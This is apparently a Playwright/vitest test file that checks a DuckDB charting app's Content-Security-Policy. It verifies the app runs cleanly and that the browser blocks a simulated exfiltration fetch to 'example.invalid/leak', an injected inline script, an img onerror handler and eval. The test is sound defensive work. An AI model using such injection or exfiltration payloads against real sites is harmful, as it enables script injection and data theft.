/**
 * The built app under its Content-Security-Policy (index.html's meta tag; and the README's header form, as a city
 * server would send it): DuckDB starts and the overview's charts draw with no violation; a fetch to another origin,
 * an injected inline script, an inline event handler and eval are all refused by the browser — before any request
 * leaves (withSession checks that nothing reached the network outside the origin).
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { HEADER_POLICY } from '../../src/csp';
import { waitViewSettled, withSession } from './app-driver';
import { serveBuiltApp, startStaticServer } from './harness';

/** Records every CSP violation of the page, from its first script on, as 'directive blocked-uri'. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => [...(window as unknown as { __csp: string[] }).__csp]);
}

describe('Content-Security-Policy', () => {
  const app = serveBuiltApp();

  it('lets the app work and refuses foreign requests, injected scripts and eval', async () => {
    await withSession(app.browser, app.server.url, async ({ page, consoleErrors, log }) => {
      const violations = await recordViolations(page);
      await page.goto(app.server.url);
      await waitViewSettled(page, 'overview'); // DuckDB started, the data imported, every chart drew
      expect(await page.locator('main .chart[data-rendered="true"]').count(), log()).toBeGreaterThan(0);
      expect(await violations(), log()).toEqual([]);
      expect(consoleErrors(), log()).toEqual([]);

      const fetched = await page.evaluate(() =>
        fetch('http://example.invalid/leak?data=1').then(
          () => 'loaded',
          (e: Error) => `refused: ${e.name}`,
        ),
      );
      expect(fetched).toBe('refused: TypeError');

      const ran = await page.evaluate(async () => {
        const w = window as unknown as Record<string, unknown>;
        const script = document.createElement('script');
        script.textContent = 'window.__inline = true';
        document.body.append(script);
        const holder = document.createElement('div');
        const failed = new Promise((resolve) => holder.addEventListener('error', resolve, { capture: true }));
        holder.innerHTML = '<img src="./no-such-image.png" onerror="window.__onerror = true">';
        document.body.append(holder);
        await failed;
        let evaluated = false;
        try {
          evaluated = (0, eval)('true') as boolean;
        } catch {
          evaluated = false;
        }
        return { inline: w.__inline ?? false, onerror: w.__onerror ?? false, eval: evaluated };
      });
      expect(ran).toEqual({ inline: false, onerror: false, eval: false });
      expect((await violations()).sort(), log()).toEqual(['connect-src http://example.invalid/leak?data=1', 'script-src-attr inline', 'script-src-elem inline', 'script-src eval'].sort());
    });
  });

  it("works with the README's header policy as well (the worker compiles DuckDB under it)", async () => {
    const server = await startStaticServer(undefined, { 'Content-Security-Policy': HEADER_POLICY });
    try {
      await withSession(app.browser, server.url, async ({ page, consoleErrors, log }) => {
        const violations = await recordViolations(page);
        await page.goto(server.url);
        await waitViewSettled(page, 'overview');
        expect(await violations(), log()).toEqual([]);
        expect(consoleErrors(), log()).toEqual([]);
      });
    } finally {
      await server.close();
    }
  });
});
